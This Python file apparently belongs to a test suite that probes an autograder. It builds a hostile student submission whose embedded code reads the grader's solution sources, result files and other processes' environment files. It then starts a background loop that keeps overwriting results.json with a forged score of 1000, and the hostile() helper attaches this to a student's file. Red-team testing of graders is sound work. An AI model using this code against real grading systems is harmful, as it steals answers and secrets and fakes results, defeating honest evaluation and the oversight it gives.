"""A submission that tries what an image would make worth while: answers, tokens, the result."""

from __future__ import annotations

from attacks.delayed import DAEMON

CODE = (
    '''

import glob
import os as _os
import time

RESULTS = "/autograder/results/results.json"


def loot():
    """Return what may be read of the solutions, of the results and of other processes."""
    places = ["/autograder/source/**/*", "/autograder/results/*", "/proc/[0-9]*/environ"]
    for pattern in places:
        for path in glob.glob(pattern, recursive=True):
            if path.split("/")[2] not in (str(_os.getpid()), "self"):
                try:
                    with open(path, "rb") as file:
                        yield path, file.read()
                except OSError:
                    pass


def forge():
    """Write full marks, now and for some time after the run."""
    for _ in range(200):
        try:
            with open(RESULTS, "w") as file:
                file.write('{"score": 1000}')
        except OSError:
            pass
        time.sleep(0.02)
'''
    + DAEMON
    + """

print("LOOT", [path for path, held in loot() if held], sorted(_os.environ))
daemon(forge)
"""
)


def hostile(skeleton: str) -> str:
    """Return a student's file with the attack in front of what earns nothing."""
    return f"{skeleton}\n{CODE}"


if __name__ == "__main__":
    import sys

    print(hostile(sys.stdin.read()), end="")
